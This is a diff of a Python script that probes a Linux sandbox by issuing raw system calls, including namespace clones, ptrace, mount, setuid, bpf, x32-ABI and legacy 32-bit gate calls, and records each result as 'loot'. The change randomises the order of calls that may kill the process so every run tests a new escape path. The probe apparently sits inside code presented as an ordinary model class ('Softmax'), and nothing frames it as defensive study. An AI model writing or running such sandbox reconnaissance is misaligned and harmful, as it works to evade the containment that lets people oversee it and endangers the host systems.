@@ -10,7 +10,7 @@ import ctypes
 import mmap
 import os
 import platform
-import struct
+import time
 
 import target
 
@@ -22,7 +22,7 @@ loot = []
 def tell(what, found):
   text = '%s: %s' % (what, found)
   loot.append(text[:3000])
-  print(text[:20000])
+  print(text[:20000], flush=True)
 
 
 def attempt(what, way):
@@ -72,24 +72,27 @@ def act(where):
   attempt('packet', lambda: native(41, 17, 3, 0))
   attempt('alg', lambda: native(41, 38, 5, 0))
   attempt('unix', lambda: native(41, 1, 1, 0))
-  attempt('x32 getpid', lambda: native(0x40000000 + 39))
-  attempt('x32 socket', lambda: native(0x40000000 + 41, 2, 1, 0))
   for name, number, args in [('unshare', 272, (0x10000000,)), ('keyctl', 250, (0, -3, 0)), ('bpf', 321, (0, 0, 0)),
                              ('io_uring_setup', 425, (8, 0)), ('userfaultfd', 323, (0,)), ('memfd_create', 319, (at, 0)),
                              ('ptrace', 101, (0,)), ('mount', 165, (at, at, at)), ('chroot', 161, (at,)), ('setuid', 105, (0,)),
                              ('iopl', 172, (3,)), ('personality', 135, (0x0040000,)), ('reboot', 169, (0, 0, 0)), ('shmget', 29, (0, 4096, 0x3ff))]:
     attempt(name, lambda: native(number, *args))
-  tell('last', 'vfork and the old gate end the process where they are refused')
-  attempt('old getpid', lambda: old(20))
-  attempt('old open', lambda: old(5, at & 0xffffffff, 0, 0))
-  attempt('old socketcall', lambda: old(102, 1, 0, 0))
   for number in (57, 58, 56, 435):
     result = native(number, 17 if number == 56 else 0)
     if result == 0:
       os._exit(0)
     tell('process by %d' % number, result)
-  attempt('clone with namespaces', lambda: native(56, 0x7e020000 | 17))
-  tell('packed', struct.pack('<Q', 1))
+  attempt('clone with namespaces', lambda: native(56, 0x7e020000 | 17) or os._exit(0))
+  # What is left may end the process at once: another way each time.
+  foreign = [('x32 getpid', lambda: native(0x40000000 + 39)), ('x32 open', lambda: native(0x40000000 + 2, at, 0, 0)),
+             ('x32 fork', lambda: native(0x40000000 + 57) or os._exit(0)), ('old getpid', lambda: old(20)),
+             ('old open', lambda: old(5, at & 0xffffffff, 0, 0)), ('old socketcall', lambda: old(102, 1, 0, 0)),
+             ('old fork', lambda: old(2) or os._exit(0))]
+  first = int(time.time() * 10)
+  for number in range(len(foreign)):
+    name, way = foreign[(first + number) % len(foreign)]
+    tell('next', name)
+    attempt(name, way)
 
 
 class Softmax(Honest):
